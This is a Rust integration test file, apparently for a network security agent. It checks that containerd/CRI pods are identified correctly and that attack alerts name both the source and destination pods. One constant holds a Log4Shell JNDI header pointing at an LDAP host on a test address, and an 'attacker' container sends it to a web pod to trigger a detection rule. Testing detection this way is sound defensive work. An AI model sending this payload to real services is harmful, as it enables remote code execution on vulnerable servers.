//! Pods that are made by CRI, as the kubelet does.

use anyhow::{Context as _, Result, ensure};
use hydrophone::census::{Evidence, Identity, Runtime};
use hydrophone_inspect::Owner;
use hydrophone_tests::{Agent, Engine, Options};

use crate::{
    containerd::{Containerd, IMAGE, PodOptions},
    watcher::Watcher,
};

pub(crate) const SLEEP: [&str; 3] = ["busybox", "sleep", "1000000"];
pub(crate) const WEB: [&str; 7] = ["busybox", "httpd", "-f", "-p", "80", "-h", "/etc"];
/// Starter rule "Log4Shell lookup with a remote protocol".
pub(crate) const LOG4SHELL: u64 = 7_000_002;
pub(crate) const LOG4SHELL_HEADER: &str = "X-Api-Version: ${jndi:ldap://198.18.0.9:1389/a}";

#[test]
fn pods_are_known_with_all_that_cri_tells() -> Result<()> {
    let engine = Engine::start()?;
    let containerd = Containerd::start(&engine)?;
    let early = containerd.pod("early", &PodOptions::default())?;
    let web = early.run("web", &WEB)?;
    let watcher = Watcher::start(vec![engine.socket()], vec![containerd.socket()])?;

    // One that was there before, one that comes.
    let late = containerd.pod("late", &PodOptions::default())?;
    let first = late.run("first", &SLEEP)?;
    let second = late.run("second", &SLEEP)?;
    for (pod, id, name) in [
        (&early, &web, "web"),
        (&late, &first, "first"),
        (&late, &second, "second"),
    ] {
        let address = pod.ipv4(id)?.parse()?;
        let known = watcher.find(name, |one| {
            one.id == *id && one.unknown.is_none() && one.assigned.contains(&address)
        })?;
        assert_eq!((known.name.as_str(), known.image.as_str()), (name, IMAGE));
        assert!(known.image_digest.starts_with("sha256:"), "{known:?}");
        assert_eq!(known.runtime, Runtime::Containerd);
        assert_eq!(known.pid, pod.pid(id)?);
        assert_eq!(known.labels["app"], pod.name());
        let told = known.pod.as_ref().context("no pod")?;
        assert_eq!(
            (
                told.namespace.as_str(),
                told.name.as_str(),
                told.uid.as_str()
            ),
            ("shop", pod.name(), pod.uid())
        );
        assert_eq!(told.sandbox_id, pod.id);
        assert_eq!(known.joins.as_deref(), Some(pod.id.as_str()));
    }
    let sandbox = watcher.named(&late.id)?;
    assert_eq!(sandbox.name, "POD");
    assert_eq!(
        sandbox.pod.as_ref().map(|pod| pod.name.as_str()),
        Some("late")
    );

    // Who shares the pod's namespace is told apart by the cgroup, on loopback too.
    let (first, second) = (watcher.named(&first)?, watcher.named(&second)?);
    assert_eq!(first.netns, second.netns);
    let owner = Owner {
        cgroup_id: second.cgroup_id,
        ..Owner::default()
    };
    let loopback = [127, 0, 0, 1].into();
    let identity = watcher
        .census
        .resolve_now(&owner, loopback, second.netns_cookie);
    let Identity::Container { container, or, by } = identity else {
        anyhow::bail!("{identity:?}");
    };
    assert_eq!(
        (container.name.as_str(), or.len(), by),
        ("second", 0, Evidence::Cgroup)
    );
    Ok(())
}

#[test]
fn a_pod_on_the_hosts_network_is_known_as_such_and_a_pod_that_went_stays_known() -> Result<()> {
    let engine = Engine::start()?;
    let containerd = Containerd::start(&engine)?;
    let watcher = Watcher::start(Vec::new(), vec![containerd.socket()])?;
    let pod = containerd.pod(
        "node-agent",
        &PodOptions {
            host_network: true,
            ..PodOptions::default()
        },
    )?;
    let id = pod.run("agent", &SLEEP)?;
    let known = watcher.named(&id)?;
    assert!(known.host_network && known.links.is_empty(), "{known:?}");
    assert!(known.assigned.is_empty(), "{known:?}");
    let sandbox = pod.id.clone();
    containerd.remove(&sandbox)?;
    let gone = watcher.find("it has gone", |one| {
        one.id == id && one.gone_since.is_some()
    })?;
    assert_eq!(gone.name, "agent");
    assert!(gone.pod.is_some() && gone.unknown.is_none(), "{gone:?}");
    Ok(())
}

#[test]
fn an_attack_between_pods_is_told_with_both_pods() -> Result<()> {
    let engine = Engine::start()?;
    let containerd = Containerd::start(&engine)?;
    let server = containerd.pod(
        "server",
        &PodOptions {
            ports: vec![(18_080, 80)],
            ..PodOptions::default()
        },
    )?;
    let web = server.run("web", &WEB)?;
    let client = containerd.pod("client", &PodOptions::default())?;
    let attacker = client.run("attacker", &SLEEP)?;
    let sockets = vec![containerd.socket().display().to_string()];
    let agent = Agent::start(&Options::new(&engine).set("census", "cri_sockets", sockets))?;

    let address = server.ipv4(&web)?;
    let ask = |pod: &crate::containerd::Pod<'_>, from: &str, header: &str, url: &str| {
        let wget = ["busybox", "wget", "-q", "-O", "/dev/null", "--header"];
        pod.exec(from, &[&wget[..], &[header, url]].concat())
    };
    // It listens, and an ordinary request is none of our business.
    ask(
        &client,
        &attacker,
        "X-Api: 1",
        &format!("http://{address}/hostname"),
    )?;
    ask(
        &client,
        &attacker,
        LOG4SHELL_HEADER,
        &format!("http://{address}/hostname"),
    )?;
    let alert = agent.wait_for("the attack", |event| event.sid() == LOG4SHELL)?;
    for (end, container, id, pod) in [
        ("src_container", "attacker", &attacker, &client),
        ("dst_container", "web", &web, &server),
    ] {
        let text = |field: &str| alert.text(&format!("/{end}/{field}")).to_owned();
        assert_eq!(text("name"), container, "{alert}");
        assert_eq!(text("id"), *id, "{alert}");
        assert_eq!(text("image"), IMAGE, "{alert}");
        assert_eq!(text("runtime"), "containerd", "{alert}");
        assert_eq!(text("pod/namespace"), "shop", "{alert}");
        assert_eq!(text("pod/name"), pod.name(), "{alert}");
        assert_eq!(text("pod/uid"), pod.uid(), "{alert}");
        assert_eq!(text("pod/sandbox_id"), pod.id, "{alert}");
        assert_eq!(text("evidence"), "cgroup", "{alert}");
    }
    agent.settle()?;
    let alerts = agent.alerts_of(&["attacker", "web"]);
    ensure!(alerts.len() == 1, "one alert expected: {alerts:#?}");

    // Loopback within the pod names the very container.
    let neighbour = server.run("neighbour", &SLEEP)?;
    ask(
        &server,
        &neighbour,
        LOG4SHELL_HEADER,
        "http://127.0.0.1/hostname",
    )?;
    let alert = agent.wait_for("the attack within the pod", |event| {
        event.is_between("neighbour", "web")
    })?;
    assert_eq!(alert.text("/src_container/id"), neighbour, "{alert}");
    assert_eq!(alert.text("/dst_container/id"), web, "{alert}");
    agent.stop()?;
    Ok(())
}
